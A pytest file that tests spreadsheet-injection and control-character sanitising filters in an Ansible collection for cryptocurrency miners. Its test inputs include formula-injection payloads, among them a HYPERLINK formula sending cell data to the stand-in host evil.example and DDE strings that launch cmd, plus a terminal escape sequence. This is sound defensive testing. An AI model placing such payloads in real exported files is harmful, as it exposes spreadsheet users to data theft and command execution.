# Copyright: (c) 2026, hashfarm maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Filters csv_cell and report_text: text a miner reports cannot run as a formula or break a report."""

from __future__ import annotations

import csv
import io

import pytest

from ansible_collections.hashfarm.whatsminer.plugins.filter.csv_cell import FilterModule as CsvCellFilters
from ansible_collections.hashfarm.whatsminer.plugins.filter.report_text import FilterModule as ReportTextFilters
from ansible_collections.hashfarm.whatsminer.plugins.plugin_utils._report_cells import csv_cell, report_text


def test_the_filters_are_registered():
    assert CsvCellFilters().filters() == {"csv_cell": csv_cell}
    assert ReportTextFilters().filters() == {"report_text": report_text}


@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
    ("+41 22 000", "\"'+41 22 000\""),
    ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
    ("\t=1+1", "\"' =1+1\""),
    ("\r=1+1", "\"' =1+1\""),
    ("   =1+1", "\"'   =1+1\""),
    ("\t", "\"' \""),
    ("\uff1d1+1", "\"'\uff1d1+1\""),
    ("hashfarm.rack1-m01", '"hashfarm.rack1-m01"'),
    ("a=b", '"a=b"'),
    ('other,"worker"', '"other,""worker"""'),
    ("line one\r\nline two", '"line one  line two"'),
    ("bell\x07 escape\x1b[31m del\x7f c1\x9b", '"bell\ufffd escape\ufffd[31m del\ufffd c1\ufffd"'),
    ("right\u202eto left", '"right\ufffdto left"'),
    ("", '""'),
    (None, ""),
    (True, "true"),
    (False, "false"),
    (-5, "-5"),
    (3.25, "3.25"),
    (["not mining (=1+1)", "errors: 600"], '"not mining (=1+1); errors: 600"'),
    (["=1+1", "hot"], "\"'=1+1; hot\""),
    ([], '""'),
])
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/","x")', "@SUM(A1:A9)", "+1", "-1", "\t=1", "\r\n=1", " =1", "\uff20SUM(1)",
    "x\r\n=1+1", 'a,"b"\nc', "\x00\x01\x1f\x7f\x80\x9f",
])
def test_a_spreadsheet_reads_one_text_field_that_is_no_formula(value):
    line = ",".join([csv_cell("host"), csv_cell(value), csv_cell(42)]) + "\r\n"
    rows = list(csv.reader(io.StringIO(line, newline="")))
    assert len(rows) == 1 and len(rows[0]) == 3
    field = rows[0][1]
    assert field[:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    assert not any(ord(character) < 0x20 or 0x7F <= ord(character) <= 0x9F for character in field)
    assert rows[0][2] == "42"


@pytest.mark.parametrize("value, text", [
    ("fan stop\r\n\x1b]0;owned\x07", "fan stop  \ufffd]0;owned\ufffd"),
    ("tab\tvt\vff\fsep\u2028para\u2029", "tab vt ff sep para "),
    ("isolate\u2066x\u2069", "isolate\ufffdx\ufffd"),
    ("°C, ümlaut, 中文", "°C, ümlaut, 中文"),
    (None, ""),
    (600, "600"),
])
def test_report_text(value, text):
    assert report_text(value) == text
